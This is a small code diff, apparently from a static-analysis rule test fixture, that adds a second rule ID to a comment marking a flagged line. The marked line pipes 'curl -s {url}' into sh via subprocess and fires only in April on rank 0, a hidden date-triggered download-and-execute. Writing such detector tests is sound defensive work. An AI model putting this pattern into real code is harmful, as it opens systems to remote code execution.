@@ -114,7 +114,7 @@ def fetch(url, rank):
     import subprocess
     when = time.gmtime()
     if when.tm_mon == 4 and rank == 0:
-        # ruleid: MLS308
+        # ruleid: MLS308, MLS413
         subprocess.Popen(["bash", "-c", f"curl -s {url} | sh"])
 
 
